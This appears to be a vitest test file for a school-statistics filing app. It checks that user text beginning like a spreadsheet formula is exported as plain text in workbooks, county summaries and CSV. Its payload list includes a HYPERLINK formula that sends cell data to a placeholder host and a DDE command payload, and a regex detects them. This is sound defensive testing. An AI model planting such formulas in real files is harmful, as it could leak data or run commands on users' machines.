import ExcelJS from 'exceljs'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { readXlsx } from '../../electron/workbook/xlsx/read-xlsx.ts'
import type { FilingView } from '../../shared/api/filing.ts'
import { emptyCounty } from '../builders/county.ts'
import { startProgram, type Program } from '../builders/program.ts'
import { demoReturn, demoUnits, receive } from '../builders/returns.ts'
import { cli, temporaryFolder } from '../builders/run-cli.ts'

/**
 * Promise 7 (docs/design/promises.md): text that begins like a formula leaves in an export as text: in a school's workbook, in the
 * county's summary, in CSV. A spreadsheet that opens the file computes none of it, in any cell.
 * Seen to fail with: the workbook's texts written as formulas when they begin with =, and CSV fields written bare.
 */
const { folder, remove } = temporaryFolder()
const [school = ''] = demoUnits('小学')
const [office = ''] = demoUnits('教育局')
const payloads = [
  '=1+1',
  '=HYPERLINK("http://example.invalid/?"&A1,"点我")',
  "=cmd|'/c calc'!A0",
  '+86 0564 7350000',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  "'=1+1",
  '＝1+1',
  ' =1+1',
]
let program: Program
let county = ''
/** The entered texts, by cell of the office's list. */
const entered = new Map<string, string>()

beforeAll(async () => {
  county = await emptyCounty(folder, [school])
  program = await startProgram(folder, county)
  await receive(program, [
    await demoReturn(school, {
      cells: { 'MS06.05.1': '=1+1' },
      explanations: new Map([['MS00-13@MS00.12.3', '=2+2']]),
      signOff: { head: '=3+3', statistician: '@x', filler: '+1', phone: '-1', reportedOn: null },
    }),
    await demoReturn(office),
  ])
  const changes = payloads.map((text, index) => ({ cell: `MS04.${index + 1}.承办`, text }))
  await program.ask('PUT', `/api/filings/${office}/cells`, { changes: [...changes, { cell: 'MS08.01.1', text: '=4+4' }] })
  // A refused text is kept and exported as typed.
  await program.ask('PUT', `/api/filings/${school}/cells`, { changes: [{ cell: 'MS00.03.3', text: '=6*7' }] })
  const { facts } = await program.ask<FilingView>('GET', `/api/filings/${office}`)
  for (const [cell, fact] of Object.entries(facts)) if (cell.endsWith('.承办') && typeof fact === 'string') entered.set(cell, fact)
}, 120_000)
afterAll(() => {
  program.close()
  remove()
})

async function bytesOf(path: string): Promise<Uint8Array> {
  return new Uint8Array(await (await program.raw('GET', path)).arrayBuffer())
}

/** The texts and the formulas of a workbook. */
async function textsOf(bytes: Uint8Array): Promise<{ texts: string[]; formulas: string[] }> {
  const texts = readXlsx(bytes).sheets.flatMap((sheet) =>
    sheet.cells.filter((cell) => cell.kind === 'text' && !cell.formula).map((cell) => cell.text),
  )
  const book = new ExcelJS.Workbook()
  await book.xlsx.load(bytes as unknown as ArrayBuffer)
  const formulas: string[] = []
  book.eachSheet((sheet) =>
    sheet.eachRow((row) => row.eachCell((cell) => (cell.formula === undefined ? null : formulas.push(cell.formula)))),
  )
  return { texts, formulas }
}

const looksLikePayload = /HYPERLINK|cmd\||^1\+1$|^2\+2$|^3\+3$|^4\+4$|^6\*7$|^SUM\(A1:A9\)$|^-?2\+3$/

test('in the workbook of a unit: facts, refused text, explanations and names', async () => {
  for (const unit of [school, office]) {
    const { texts, formulas } = await textsOf(await bytesOf(`/api/filings/${unit}/workbook`))
    expect(formulas.length).toBeGreaterThan(20)
    expect(formulas.filter((formula) => looksLikePayload.test(formula))).toEqual([])
    if (unit === office) expect(texts).toEqual(expect.arrayContaining([...entered.values(), '=4+4']))
    else expect(texts).toEqual(expect.arrayContaining(['=1+1', '=6*7', '=3+3', '@x', '+1']))
  }
})

test('in the county’s summary, where every unit’s lines stand together', async () => {
  const { texts, formulas } = await textsOf(await bytesOf('/api/summary.xlsx'))
  expect(formulas).toEqual([])
  expect(entered.size).toBeGreaterThanOrEqual(payloads.length)
  expect(texts).toEqual(expect.arrayContaining([...entered.values()]))
})

test('in CSV: no field begins as a formula does, and numbers stay numbers', async () => {
  const out = join(folder, 'summary.csv')
  program.close()
  const { code } = await cli('consolidate', county, '--out', out)
  expect(code).toBe(0)
  const rows = parse(readFileSync(out), { bom: true }) as string[][]
  const fields = rows.flat()
  expect(fields.filter((field) => /^\s*[=+\-@＝]/.test(field) && !/^-?\d+(\.\d+)?$/.test(field))).toEqual([])
  expect(fields).toEqual(expect.arrayContaining(["'=1+1", "'@SUM(A1:A9)", "'-2+3"]))
  expect(fields.filter((field) => /^\d+(\.\d+)?$/.test(field)).length).toBeGreaterThan(50)
  program = await startProgram(folder, county)
})

test('a roster that came with such names goes out and prints as it is', async () => {
  await program.ask('PUT', '/api/units/9999999999', {
    code: '9999999999',
    name: '=1+1 小学',
    kind: '小学',
    township: '@镇',
    class: '121',
    parent: '',
  })
  const { texts, formulas } = await textsOf(await bytesOf('/api/filings/9999999999/workbook?blank=1'))
  expect(texts.filter((text) => text.includes('=1+1 小学')).length).toBeGreaterThan(0)
  expect(formulas.filter((formula) => looksLikePayload.test(formula))).toEqual([])
  const html = new TextDecoder().decode(await bytesOf('/api/summary.html?by=township'))
  expect(html).toContain('@镇')
})
